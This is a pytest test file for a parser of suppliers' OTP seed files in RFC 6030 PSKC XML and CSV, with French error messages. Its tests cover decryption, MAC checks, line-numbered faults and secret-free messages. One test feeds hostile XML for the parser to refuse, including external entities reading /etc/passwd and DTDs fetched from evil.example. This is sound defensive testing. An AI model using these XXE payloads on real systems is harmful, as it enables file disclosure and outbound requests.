"""Suppliers' files: examples of RFC 6030, CSV, faults with their lines, hostile XML, no secret in any sentence."""

from __future__ import annotations

import base64
import hmac
import re
from xml.etree import ElementTree

import pytest
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from harness.suppliers import AES, AGREED, FIGURE_6, FIGURE_7, PASSWORD, RFC_SEED, container, csv, hexed, package
from hypothesis import given
from hypothesis import strategies as st

from charters.keys import pskc, seedfile
from charters.keys.seedfile import MAX_BYTES, read
from charters.keys.supplied_key import Faulty, key_of


def faults(content, secret=""):
    with pytest.raises(Faulty) as faulty:
        read(content, secret)
    return [str(fault) for fault in faulty.value.faults]


@pytest.mark.parametrize(("content", "secret"), [(FIGURE_6, AGREED), (FIGURE_7, PASSWORD)], ids=["6.1", "6.2"])
def test_the_encrypted_examples_of_rfc_6030_open(content, secret):
    [key] = read(content, secret)
    assert (key.serial, key.kind, key.digits, key.algorithm, key.counter) == ("987654321", "hotp", 8, "sha1", 0)
    assert key.seed == RFC_SEED


@pytest.mark.parametrize(
    ("content", "secret", "sentence"),
    [
        (FIGURE_6, "", "Ce fichier est chiffré"),
        (FIGURE_6, "00" * 16, "n’ouvre pas|ne correspond pas"),
        (FIGURE_6, "court", "hexadécimal"),
        (FIGURE_7, "azerty", "n’ouvre pas|ne correspond pas"),
        (FIGURE_6.replace(b"Su+N", b"Sv+N"), AGREED, "Ligne 7 : la signature de contrôle"),
        (FIGURE_6.replace(b"AAECAwQF", b"AAECAwQG"), AGREED, "Ligne 7 : la signature de contrôle"),
        (FIGURE_6.replace(b"<ValueMAC>Su+NvtQfmvfJzF6bmQiJqoLRExc=</ValueMAC>", b""), AGREED, "sans signature"),
        (FIGURE_6.replace(b"#hmac-sha1", b"#hmac-md5"), AGREED, "MACMethod"),
        (FIGURE_6.replace(b"aes128-cbc", b"tripledes-cbc"), AGREED, "n’ouvre pas"),
        (FIGURE_7.replace(b">1000<", b">999999999<"), PASSWORD, "PBKDF2"),
        (FIGURE_7.replace(b">1000<", b">0<"), PASSWORD, "PBKDF2"),
        (FIGURE_7.replace(b">16<", b">1<"), PASSWORD, "16, 24 ou 32"),
        (FIGURE_7.replace(b"<PRF/>", b'<PRF Algorithm="x#hmac-md5"/>'), PASSWORD, "fonction de PBKDF2"),
    ],
)
def test_what_does_not_open_is_told(content, secret, sentence):
    told = faults(content, secret)
    assert len(told) == 1 and re.search(sentence, told[0]), told


def test_plain_pskc_is_read_with_its_parameters():
    more = "<Counter><PlainValue>7</PlainValue></Counter>"
    hotp, totp = read(
        container(
            package("A-1", more=more),
            package("A-2", "QUJDREVGR0hJSg==", "totp", "<TimeInterval><PlainValue>30</PlainValue></TimeInterval>"),
        )
    )
    assert (hotp.serial, hotp.kind, hotp.algorithm, hotp.counter) == ("A-1", "hotp", "sha256", 7)
    assert (totp.kind, totp.seed, totp.counter) == ("totp", b"ABCDEFGHIJ", 0)


def test_each_fault_of_a_pskc_has_its_line():
    told = faults(
        container(
            package("A-1"),
            package("A-2", "dHJvcA=="),
            package("A-3", "pas du base64 !"),
            package("A-4", "QUJDREVGR0hJSktM", "totp", "<TimeInterval><PlainValue>60</PlainValue></TimeInterval>"),
            package("A-5", "QUJDREVGR0hJSktN", "ocra"),
            package("A-1", "QUJDREVGR0hJSktO"),
            package("A-7"),
        )
    )
    assert [re.match(r"Ligne (\d+) : (.{12})", fault).groups() for fault in told] == [
        ("7", "le secret co"),
        ("11", "une valeur n"),
        ("15", "cette clé ne"),
        ("19", "cette clé n’"),
        ("23", "la clé n° A-"),
        ("27", "ce secret es"),
    ]


@pytest.mark.slow
@pytest.mark.parametrize(
    "content",
    [
        b'<?xml version="1.0"?><!DOCTYPE k [<!ENTITY a "aaaa">]><KeyContainer>&a;</KeyContainer>',
        b'<!DOCTYPE k SYSTEM "http://evil.example/x.dtd"><KeyContainer/>',
        b'<!DOCTYPE k [<!ENTITY x SYSTEM "file:///etc/passwd">]><KeyContainer>&x;</KeyContainer>',
        b'<!DOCTYPE k [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]><KeyContainer/>',
        b"<KeyContainer>" + b"<a>" * 50_000,
        b"<KeyContainer>" + b"<a/>" * 500_000,
        b"<KeyContainer><Key></KeyContainer>",
        b'<?xml version="1.0" encoding="utf-7"?><KeyContainer/>',
        b"<\x00\x00",
        b"<",
        b"<KeyContainer/>",
        b"<html/>",
    ],
)
def test_hostile_or_broken_xml_is_refused_with_a_sentence(content):
    assert len(faults(content)) == 1


def _sealed(value):
    """A value encrypted with the pre-shared key, and its MAC, as in RFC 6030 (6.1)."""
    key = bytes.fromhex(AGREED)
    padding = 16 - len(value) % 16
    encryptor = Cipher(algorithms.AES(key), modes.CBC(bytes(16))).encryptor()
    data = bytes(16) + encryptor.update(value + bytes([padding]) * padding) + encryptor.finalize()
    mac = base64.b64encode(hmac.digest(key, data, "sha1")).decode()
    return (
        f'<EncryptedValue><EncryptionMethod Algorithm="{AES}"/><CipherData><CipherValue>'
        f"{base64.b64encode(data).decode()}</CipherValue></CipherData></EncryptedValue><ValueMAC>{mac}</ValueMAC>"
    )


_TWO_WAYS = "le compteur chiffré peut se lire de deux façons : demandez-le en clair au fournisseur."


@pytest.mark.parametrize(
    ("counter", "fault"),
    [
        (b"\x00\x00\x00\x05", ""),
        (b"\x00" * 7 + b"\x05", ""),
        (b"\x05", ""),
        (b"00000005", ""),
        (b"5", _TWO_WAYS),
        (b"0005", _TWO_WAYS),
        (b"", "un nombre chiffré est vide."),
        (b"\xff" * 8, "le compteur est un nombre entier."),
        (b"\xff" * 9, "un nombre chiffré est trop grand."),
        (b"\xff" * 3000, "un nombre chiffré est trop grand."),
    ],
)
def test_an_encrypted_counter_however_long_is_a_number_or_a_fault(counter, fault):
    packed = package("A-1", more=f"<Counter>{_sealed(counter)}</Counter>").replace(
        "<PlainValue>MTIzNDU2Nzg5MDEyMzQ1Njc4OTA=</PlainValue>", _sealed(RFC_SEED)
    )
    method = '<EncryptionKey/><MACMethod Algorithm="http://www.w3.org/2000/09/xmldsig#hmac-sha1"/>'
    content = container(method, packed)
    if fault:
        assert faults(content, AGREED) == [f"Ligne 3 : {fault}"]
    else:
        assert (read(content, AGREED)[0].seed, read(content, AGREED)[0].counter) == (RFC_SEED, 5)


def test_csv_is_read_in_the_forms_that_suppliers_give():
    keys = read(
        csv(
            f"A-1;{hexed(1)};HOTP;6;SHA-1;12",
            "A-2;gezd gnbv gy3t qojq;totp;8;sha256;",
            f"A-3;{hexed(3, 64)};;;SHA512;0",
        )
    )
    assert [(key.serial, key.kind, key.digits, key.algorithm, key.counter) for key in keys] == [
        ("A-1", "hotp", 6, "sha1", 12),
        ("A-2", "totp", 8, "sha256", 0),
        ("A-3", "totp", 6, "sha512", 0),
    ]
    assert keys[1].seed == b"1234567890"
    for delimiter in (",", "\t"):
        text = csv(f"A-1;{hexed(1)}", head="serial number;secret key").decode().replace(";", delimiter)
        for encoding in ("utf-8-sig", "utf-16", "cp1252"):
            assert read(text.encode(encoding))[0].serial == "A-1"


def test_each_fault_of_a_csv_has_its_line():
    told = faults(
        csv(
            f"A-1;{hexed(1)}",
            ";;",
            "",
            f"A-2;{hexed(2)};ocra;7;md5;x",
            "A-3;zz!",
            "A-4;00ff",
            f"A-1;{hexed(5)}",
            f"A-6;{hexed(1)}",
            f"{'A' * 41};{hexed(7)}",
            f"A-8;{hexed(8)};hotp;6;sha1;-1",
        )
    )
    numbers = [int(re.match(r"Ligne (\d+)", fault)[1]) for fault in told]
    assert numbers == [5, 5, 5, 5, 6, 7, 8, 9, 10, 11]


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"  \n",
        b"A-1;3132\n",
        b"serial\nA-1\n",
        b"numero;secret\n",
        b"\xff\xfe",
        b"x" * (MAX_BYTES + 1),
        b'serial;secret\n"A-1;31',
    ],
)
def test_what_is_no_list_of_keys_is_refused(content):
    assert faults(content)


def test_no_sentence_and_no_representation_holds_a_secret():
    seed = "deadbeefcafe"
    told = " ".join(faults(csv(f"A-1;{seed}", f"A-2;{hexed(9)};x", "A-3;notasecret!!")))
    assert seed not in told and "notasecret" not in told and hexed(9) not in told
    [key] = read(csv(f"A-1;{hexed(9)}"))
    assert "\\x" not in repr(key) and hexed(9) not in repr(key)


@given(st.binary(max_size=300))
def test_any_bytes_are_keys_or_faults_and_never_a_crash(content):
    for start in (b"", b"<KeyContainer>", b"serial;secret\n"):
        try:
            assert read(start + content)
        except Faulty as faulty:
            assert faulty.faults


@pytest.mark.parametrize(
    ("values", "fault"),
    [
        ({"serial": ""}, "le numéro de série manque."),
        ({"serial": "x" * 41}, "40 caractères au plus"),
        ({"kind": "ocra"}, "le type est TOTP"),
        ({"digits": "7"}, "6 ou 8 chiffres"),
        ({"algorithm": "md5"}, "SHA-1, SHA-256 ou SHA-512"),
        ({"interval": "60"}, "toutes les 30 secondes"),
        ({"counter": "-1"}, "un nombre entier"),
        ({"counter": "1" * 16}, "un nombre entier"),
        ({"seed": b"x" * 9}, "80 bits au moins"),
        ({"seed": b"x" * 129}, "128 octets au plus"),
    ],
)
def test_each_fault_of_a_key_is_on_its_line_and_leaves_no_key(values, fault):
    given = {"serial": "A-1", "seed": b"x" * 20} | values
    found = []
    assert key_of(12, given, given.pop("seed"), found) is None
    (only,) = found
    assert only.line == 12 and fault in only.sentence and str(only).startswith("Ligne 12 : ")


@pytest.mark.parametrize(
    ("values", "kind", "digits", "algorithm", "counter"),
    [
        ({}, "totp", 6, "sha1", 0),
        ({"kind": " TOTP ", "digits": "8", "algorithm": "HMAC-SHA-256", "counter": "5"}, "totp", 8, "sha256", 0),
        ({"kind": "hotp", "counter": "9" * 15, "interval": "60"}, "hotp", 6, "sha1", int("9" * 15)),
        ({"interval": "30s", "algorithm": "sha512"}, "totp", 6, "sha512", 0),
    ],
)
@pytest.mark.parametrize("size", [10, 128])
def test_a_key_takes_its_values_from_the_file_or_the_usual_ones(size, values, kind, digits, algorithm, counter):
    found = []
    key = key_of(3, {"serial": "A-1"} | values, b"x" * size, found)
    assert found == []
    assert (key.line, key.serial, key.kind, key.digits) == (3, "A-1", kind, digits)
    assert (key.algorithm, key.counter, len(key.seed)) == (algorithm, counter, size)


def test_a_file_of_exactly_the_most_bytes_is_read(monkeypatch):
    content = container(package("A-1"))
    monkeypatch.setattr(seedfile, "MAX_BYTES", len(content))
    assert read(content)
    monkeypatch.setattr(seedfile, "MAX_BYTES", len(content) - 1)
    assert faults(content) == ["Le fichier dépasse 5 Mo : coupez-le en plusieurs."]


@pytest.mark.parametrize("size", [16, 24, 32])
def test_the_agreed_key_is_written_in_hexadecimal_or_base64(size):
    key = bytes(range(size))
    written = key.hex()
    assert pskc._agreed(written) == pskc._agreed(f" {written[:9]}:{written[9:20]} {written[20:]}-") == key
    assert pskc._agreed(f" {base64.b64encode(key).decode()} ") == key


@pytest.mark.parametrize("size", [0, 15, 17, 23, 25, 31, 33])
def test_a_key_of_another_length_is_no_agreed_key(size):
    for written in (bytes(range(size)).hex(), base64.b64encode(bytes(range(size))).decode()):
        with pytest.raises(pskc._Unreadable, match="32, 48 ou 64"):
            pskc._agreed(written)


@pytest.mark.parametrize(
    ("size", "said"), [(16, "incomplète"), (31, "incomplète"), (33, "incomplète"), (32, "n’ouvre")]
)
def test_an_encrypted_value_is_a_whole_number_of_blocks_two_at_least(size, said):
    """Blocks of zeros open into what nobody wrote, which another sentence refuses."""
    parent = ElementTree.fromstring(f'<a><EncryptionMethod Algorithm="{AES}"/></a>')
    with pytest.raises(pskc._Unreadable, match=said):
        pskc._decrypt(bytes(16), parent, bytes(size))
